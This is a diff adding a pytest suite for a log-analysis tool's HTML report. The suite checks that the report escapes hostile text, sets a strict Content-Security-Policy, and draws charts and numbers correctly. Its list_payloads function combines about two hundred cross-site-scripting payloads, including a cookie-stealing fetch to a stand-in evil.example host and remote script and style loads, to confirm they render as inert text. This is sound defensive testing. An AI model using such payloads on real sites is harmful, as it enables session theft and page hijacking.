@@ -1,0 +1,360 @@
+"""The report: right numbers, nothing from outside, and no text of a log that does more than be shown."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import itertools
+import re
+from collections import Counter
+from datetime import UTC, datetime, timedelta
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from penstock.apps.accesslog.charts import (
+    Band,
+    Layer,
+    draw_lines,
+    draw_stack,
+    pick_ticks,
+    show_bytes,
+    show_count,
+    show_micros,
+    show_text,
+)
+from penstock.apps.accesslog.monitoring import Merged, merge
+from penstock.apps.accesslog.report import write_report
+from penstock.apps.accesslog.report_data import (
+    Check,
+    ClassScore,
+    Decided,
+    Load,
+    Minute,
+    ReportData,
+    TopText,
+    read_report,
+)
+from penstock.apps.accesslog.tables import COUNTS, DECISIONS, TABLES, create_tables
+from penstock.cli import main
+from penstock.core.errors import OffsetStoreError
+from penstock.core.places import parse_place
+from penstock.stores.sql.loading import load_rows
+from penstock.stores.sql.sessions import Database
+from tests.accesslog_lines import Line, observe_lines
+
+START = 1_700_000_000 // 60 * 60
+NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
+#: Every tag and attribute that the page may have.
+TAGS = set(
+    re.findall(
+        r"\w+",
+        "html head meta title style body main header h1 h2 p br section div span b i ul li"
+        " table tr th td svg path rect line text circle polyline",
+    )
+)
+ATTRIBUTES = set(
+    re.findall(
+        r"[\w-]+",
+        "lang charset http-equiv content name class role aria-hidden viewbox preserveaspectratio"
+        " x y x1 x2 y1 y2 cx cy r rx d points width height",
+    )
+)
+
+
+class Page(HTMLParser):
+    """What a browser would make of a page."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: Counter[str] = Counter()
+        self.attributes: set[str] = set()
+        self.texts: list[str] = []
+        self.values: list[str] = []
+        self.comments = 0
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags[tag] += 1
+        self.attributes |= {name for name, _ in attrs}
+        self.values += [value or "" for _, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.comments += 1
+
+
+def list_payloads() -> list[str]:
+    """Two hundred texts that would do something in a page that is careless."""
+    bodies = [
+        "alert(1)",
+        "alert`1`",
+        "fetch('//evil.example/'+document.cookie)",
+        "eval(atob('YWxlcnQoMSk='))",
+    ]
+    shells = [
+        "<script>{}</script>",
+        "<ScRiPt src=//evil.example>{}</sCrIpT >",
+        "<img src=x onerror={}>",
+        "<svg/onload={}>",
+        '"><script>{}</script>',
+        "' onmouseover='{}' x='",
+        '" onfocus="{}" autofocus="',
+        "</title><script>{}</script>",
+        "</style><script>{}</script>",
+        "</td></table><iframe srcdoc='<script>{}</script>'>",
+        "<a href=javascript:{}>x</a>",
+        "<math><mtext></mtext><style><img src=x onerror={}></style></math>",
+        "<!--><script>{}</script>-->",
+        "<![CDATA[><script>{}</script>]]>",
+        "<?xml version='1.0'?><script>{}</script>",
+        "{{{{constructor.constructor('{}')()}}}}",
+        "\x1b]0;{}\x07\x1b[31m",
+        "\u202e<script>{}</script>\u2066",
+        "<base href=//evil.example><form action={}>",
+        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+        "<style>*{{background:url(//evil.example/{})}}</style>",
+        "<link rel=stylesheet href=//evil.example/{}>",
+        "<object data=//evil.example/{}><embed src=x>",
+        "&lt;script&gt;{}&lt;/script&gt;",
+        "&#60;script&#62;{}&#60;/script&#62;",
+        "\x00<script>{}</script>\ud800",
+    ]
+    made = [shell.format(body) for shell, body in itertools.product(shells, bodies)]
+    made += [text.upper() for text in made]
+    return made[:200]
+
+
+def make_hostile(text: str) -> ReportData:
+    """A report whose every text is this one."""
+    alert = {
+        **{"alert_id": text, "kind": text, "server": text, "new_level": False},
+        **{"opened_at": NOW, "closed_at": None, "value": 9.0, "expected": 1.0, "peak": 9.0},
+    }
+    tops = {kind: [TopText(text, 3, 9), TopText("", 1, 1)] for kind in ("url", text)}
+    return ReportData(
+        title=text,
+        source=text,
+        made_at=NOW,
+        load=[Load(START + at, 1.0, 5, 100, (1, 1, 1, 1, 1), 1, 5) for at in range(30)],
+        minutes=[Minute(START, 3, 1000, 2000, 3000), Minute(START + 60, 3)],
+        servers=[TopText(text, 3, 9), TopText(text + "2", 3, 9)],
+        tops=tops,
+        alerts=[alert, {**alert, "kind": "rate_spike", "closed_at": NOW + timedelta(seconds=9)}],
+        decisions=[Decided(START + 1.0, text, text, text, text, text, 9.0, START + 600.0, 1)],
+        scores=[ClassScore(text, 3, 2, 1.0, None, 0.5)],
+        benign_hit=0,
+        blocked_share=0.9,
+        checks=[Check(text, True, text), Check(text, False, text)],
+    )
+
+
+def assert_harmless(page: str) -> Page:
+    parsed = Page(page)
+    assert set(parsed.tags) <= TAGS
+    assert parsed.attributes <= ATTRIBUTES
+    assert parsed.comments == 0
+    assert parsed.tags["style"] == parsed.tags["head"] == parsed.tags["body"] == 1
+    assert parsed.tags["meta"] == 5
+    return parsed
+
+
+def test_two_hundred_hostile_texts_leave_no_live_node_in_the_report() -> None:
+    """S23: a stranger's text is text, in every place of the page where one can stand."""
+    payloads = list_payloads()
+    assert len(payloads) == len(set(payloads)) == 200
+    plain = assert_harmless(write_report(make_hostile("plain")))
+    for payload in payloads:
+        page = write_report(make_hostile(payload))
+        parsed = assert_harmless(page)
+        assert parsed.tags == plain.tags, "the text made or hid a node"
+        assert show_text(payload) in "".join(parsed.texts)
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", page)
+
+
+@given(st.text())
+def test_any_text_is_shown_and_does_nothing(text: str) -> None:
+    assert_harmless(write_report(make_hostile(text)))
+
+
+def test_the_policy_allows_the_style_sheet_by_its_hash_and_nothing_else() -> None:
+    page = write_report(ReportData())
+    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', page)
+    style = re.search("<style>(.*?)</style>", page, re.DOTALL)
+    assert policy is not None
+    assert style is not None
+    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
+    assert policy[1] == (
+        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+    )
+    assert page.index("Content-Security-Policy") < page.index("<style>")
+
+
+def test_the_page_fetches_nothing() -> None:
+    page = write_report(make_hostile("plain"))
+    assert not re.search(r"https?:|//|url\(|@import|<script|<img|<link|src=|href=", page)
+
+
+def test_an_empty_report_is_a_page() -> None:
+    parsed = assert_harmless(write_report(ReportData(title="Nothing yet")))
+    assert "no lines yet" in "".join(parsed.texts)
+
+
+def test_the_numbers_of_a_report_are_those_that_went_in() -> None:
+    load = [Load(START + at, 1.0, 10, 1 << 20, (0, 7, 1, 1, 1), 1, 10) for at in range(0, 7200, 2)]
+    parsed = Page(write_report(ReportData(load=load, checks=[Check("All is there", True, "36,000 lines")])))
+    text = " ".join(parsed.texts)
+    for expected in ("36.0 k", "5.0 /s on average", "10.00%", "3.5 GiB", "1 of 1 checks passed"):
+        assert expected in text
+
+
+# --- charts ------------------------------------------------------------------------------------------------
+
+numbers = st.floats(0, 1e15, allow_nan=False)
+
+
+@given(st.lists(numbers, min_size=1, max_size=30), numbers)
+def test_a_chart_draws_within_its_frame(values: list[float], begin: float) -> None:
+    times = [1e9 + at * 60.0 for at in range(len(values))]
+    bands = [Band(1e9 - 50, 1e9 + 90, "rate_spike", "<b>"), Band(begin, begin + 1, "rate_drop", "x")]
+    holes = [None if at % 3 == 2 else value for at, value in enumerate(values)]
+    for chart in (
+        draw_stack(
+            times, [Layer("a", "s1", values)], width=400, height=200, step_s=60, bands=bands, peaks=values
+        ),
+        draw_lines(times, [Layer("a", "l1", holes)], width=400, height=200, step_s=60, bands=bands),
+    ):
+        parsed = Page(chart)
+        assert set(parsed.tags) <= TAGS
+        places = [
+            float(each)
+            for path in re.findall(r'd="M([^"]*)z"', chart)
+            for each in re.findall(r"[\d.]+", path)
+        ]
+        assert all(0 <= each <= 400 for each in places)
+        assert "nan" not in chart
+        assert "inf" not in chart
+
+
+@given(st.floats(1e-6, 1e15))
+def test_ticks_are_round_and_few(top: float) -> None:
+    ticks = pick_ticks(top)
+    assert ticks[0] == 0
+    assert 2 <= len(ticks) <= 5
+    assert ticks[-1] <= top * (1 + 1e-6)
+
+
+def test_numbers_are_shown_as_people_say_them() -> None:
+    assert [show_count(n) for n in (0, 7, 950, 12_345, 4_000_000, 0.25)] == [
+        *("0", "7", "950", "12.3 k", "4.0 M", "0.25")
+    ]
+    assert [show_bytes(n) for n in (0, 512, 2048, 5 << 30)] == ["0", "512 B", "2 KiB", "5 GiB"]
+    assert [show_micros(n) for n in (0, 1500, 42_000, 1_500_000, 30_000_000)] == [
+        *("0", "1.5 ms", "42 ms", "1.5 s", "30 s")
+    ]
+
+
+# --- from the tables ---------------------------------------------------------------------------------------
+
+
+def fill(path: Path, merged: Merged, decisions: list[dict[str, Any]], counts: list[dict[str, Any]]) -> None:
+    create_tables(str(path))
+    schemas = {table.name: schema for table, schema in TABLES.items()}
+    rows = {
+        "accesslog_seconds": merged.seconds,
+        "accesslog_minutes": merged.minutes,
+        "accesslog_tops": merged.tops,
+        "accesslog_alerts": merged.alerts,
+        DECISIONS: pa.Table.from_pylist(decisions, schema=schemas[DECISIONS]),
+        COUNTS: pa.Table.from_pylist(counts, schema=schemas[COUNTS]),
+    }
+
+    def load(session: Any) -> None:
+        for name, table in rows.items():
+            load_rows(session, name, table)
+
+    Database(parse_place(str(path))).run(load, writes=True)
+
+
+def make_results(path: Path) -> int:
+    lines = [
+        Line(
+            (START + second) * 1_000_000 + at,
+            server="ab"[at % 2],
+            client=f"192.0.2.{at}",
+            target=f"/<script>{at}</script>?x",
+            status=503 if at == 3 else 200,
+            latency_us=1000 * at,
+        )
+        for second in range(0, 1500)
+        for at in range(8 if second < 1200 else 80)
+    ]
+    merged = merge([observe_lines(lines)])
+    decision = {
+        **{"decision_id": "d1", "subject": "192.0.2.3", "kind": "client", "client": "192.0.2.3"},
+        **{"decided_at": (START + 30) * 1_000_000, "rule": "sqli.x", "class": "sql_injection"},
+        **{"action": "block", "score": 10.0, "ban_seconds": 600, "expires_at": (START + 630) * 1_000_000},
+        **{"level": 1, "server": "a", "partition": 0, "offset": 4, "request_index": 2, "evidence": "[]"},
+    }
+    counts = {
+        "topic": "t",
+        "partition": 0,
+        "lines": len(lines) + 2,
+        "parsed": len(lines),
+        "dead": 2,
+        "late": 0,
+    }
+    fill(path, merged, [decision], [counts])
+    return len(lines)
+
+
+def test_a_report_is_read_from_the_tables_of_a_pipeline(tmp_path: Path) -> None:
+    total = make_results(tmp_path / "results.db")
+    data = read_report(parse_place(str(tmp_path / "results.db")), made_at=NOW)
+    assert sum(each.requests for each in data.load) == total
+    assert {each.length_s for each in data.load} == {1.0}
+    assert [(each.text, each.hits) for each in data.servers] == [("a", total // 2), ("b", total // 2)]
+    assert {kind: len(rows) for kind, rows in data.tops.items()} == {
+        **{"url": 10, "client": 10, "agent": 1, "referrer": 1}
+    }
+    assert {each["kind"] for each in data.alerts} >= {"rate_spike"}
+    assert data.decisions[0].of_class == "sql_injection"
+    assert [each.is_good for each in data.checks] == [True, True]
+    assert max(each.p99_us or 0 for each in data.minutes) == pytest.approx(79_000, rel=0.01)
+
+
+def test_the_command_writes_a_whole_page_and_leaves_nothing_beside_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    make_results(tmp_path / "results.db")
+    out = tmp_path / "report.html"
+    out.write_text("an older one")
+    assert (
+        main(["accesslog", "report", str(tmp_path / "results.db"), "--out", str(out), "--title", "A&B"]) == 0
+    )
+    assert "report.html" in capsys.readouterr().out
+    parsed = assert_harmless(out.read_text())
+    assert "A&B" in parsed.texts
+    assert "<script>3</script>" in "".join(parsed.texts)
+    assert [each.name for each in tmp_path.iterdir() if each.name.startswith(".report")] == []
+
+
+def test_a_place_without_tables_is_told(tmp_path: Path) -> None:
+    Database(parse_place(str(tmp_path / "empty.db"))).run(lambda session: None, writes=True)
+    with pytest.raises(OffsetStoreError, match="TABLES_NOT_FOUND"):
+        read_report(parse_place(str(tmp_path / "empty.db")), made_at=NOW)
+
+
+def test_a_folder_that_is_not_there_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    make_results(tmp_path / "results.db")
+    out = tmp_path / "nowhere" / "report.html"
+    assert main(["accesslog", "report", str(tmp_path / "results.db"), "--out", str(out)]) != 0
+    assert "REPORT_NOT_WRITTEN" in capsys.readouterr().err
